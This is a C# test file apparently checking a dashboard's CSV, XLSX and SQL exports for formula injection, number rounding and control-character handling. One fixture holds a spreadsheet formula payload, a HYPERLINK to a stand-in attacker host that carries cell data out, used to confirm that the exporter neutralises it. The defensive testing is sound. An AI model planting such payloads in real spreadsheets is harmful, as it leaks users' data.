using System.IO.Compression;
using System.Net;
using System.Text;
using System.Xml.Linq;
using CsKpi.Web.Site;
using CsKpi.Web.Tests.Support;

namespace CsKpi.Web.Tests.Site;

/// <summary>
/// Downloads open in Excel, so a value an agent, a buyer or an upload chose must not become a formula there (OWASP's
/// CSV injection), and no value may make an .xlsx file invalid.
/// </summary>
[Collection(SiteCollection.Name)]
public sealed class ExportTests(SiteFixture site)
{
    private static readonly ExportTable Hostile = new("hostile", ["客服", "=cmd", "amount"],
    [
        ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "+1", -12.5],
        ["-2+3", "@SUM(A1:A2)", 7L],
        ["\tstarts with a tab", "\rstarts with a return", -3m],
        ["＝1+1", "plain, with a comma", double.NegativeInfinity],
    ]);

    [Fact]
    public void A_csv_cell_that_would_be_a_formula_starts_with_an_apostrophe()
    {
        var lines = Lines(Export.Csv(Hostile));

        Assert.Equal("客服,'=cmd,amount", lines[0]);
        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点我\"\")\",'+1,-12.5", lines[1]);
        Assert.Equal("'-2+3,'@SUM(A1:A2),7", lines[2]);
        Assert.Equal("'\tstarts with a tab,\"'\rstarts with a return\",-3", lines[3]);
        Assert.Equal("'＝1+1,\"plain, with a comma\",'-Infinity", lines[4]);
    }

    [Fact]
    public void A_csv_ratio_has_at_most_four_decimals_and_an_amount_keeps_its_cents()
    {
        var table = new ExportTable("rounding", ["转化率", "销售额", "平均响应秒数"], [[0.4269576871529772, 9175628.16m, 35.123456789f]]);

        Assert.Equal("0.427,9175628.16,35.1235", Lines(Export.Csv(table))[1]);
    }

    [Fact]
    public async Task The_dashboard_csv_has_no_number_with_more_than_four_decimals()
    {
        using var client = await site.Client("admin");

        var csv = await client.GetStringAsync($"/?grain=range&from={SiteFixture.Start:yyyy-MM-dd}&to={SiteFixture.Start.AddDays(SiteFixture.Days - 1):yyyy-MM-dd}"
            + "&handler=Export&format=csv");

        var numbers = csv.Split(["\r\n", ","], StringSplitOptions.None)
            .Where(c => System.Text.RegularExpressions.Regex.IsMatch(c, @"^-?\d+\.\d+$")).ToList();
        Assert.NotEmpty(numbers);
        Assert.All(numbers, n => Assert.True(n.Split('.')[1].Length <= 4, $"{n} has more than four decimals"));
    }

    [Fact]
    public void An_xlsx_with_control_characters_in_values_is_valid_and_keeps_the_rest()
    {
        var table = new ExportTable("control", ["name", "n"], [["a\u0001b\u000bc\u0000d", 1.5], ["_x0041_ stays literal", -2L], ["\ud800 lone surrogate", null]]);

        var sheet = Sheet(Export.Xlsx(table));

        var cells = sheet.Descendants().Where(e => e.Name.LocalName == "c").ToList();
        Assert.Equal("abcd", Text(cells[2]));
        Assert.Equal("1.5", cells[3].Descendants().Single(e => e.Name.LocalName == "v").Value);
        Assert.Equal("_x0041_ stays literal", Excel(Text(cells[4])));
        Assert.Equal("-2", cells[5].Descendants().Single(e => e.Name.LocalName == "v").Value);
        Assert.Equal(" lone surrogate", Text(cells[6]));
    }

    [Fact]
    public async Task The_sql_download_neutralises_text_and_keeps_numbers()
    {
        using var client = await site.Client("analyst");

        using var response = await SiteFixture.PostForm(client, "/sql", "/sql?handler=Csv",
            new() { ["q"] = "select '=1+1' as formula, -12.5 as amount, '-12.5' as amount_text, '@x' as \"@header\"" });

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var lines = Lines(await response.Content.ReadAsByteArrayAsync());
        Assert.Equal("formula,amount,amount_text,'@header", lines[0]);
        Assert.Equal("'=1+1,-12.5,'-12.5,'@x", lines[1]);
    }

    private static string[] Lines(byte[] csv) =>
        Encoding.UTF8.GetString(csv).TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

    /// <summary>The sheet's XML, parsed as XML 1.0 (which a control character breaks).</summary>
    private static XDocument Sheet(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        var part = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal));
        using var stream = part.Open();
        return XDocument.Load(stream);
    }

    private static string Text(XElement cell) => string.Concat(cell.Descendants().Where(e => e.Name.LocalName == "t").Select(e => e.Value));

    /// <summary>What Excel shows for a string: it reads _xHHHH_ as the character HHHH, and _x005F_ as '_'.</summary>
    private static string Excel(string stored) =>
        System.Text.RegularExpressions.Regex.Replace(stored, "_x([0-9A-Fa-f]{4})_", m => ((char)Convert.ToInt32(m.Groups[1].Value, 16)).ToString());
}
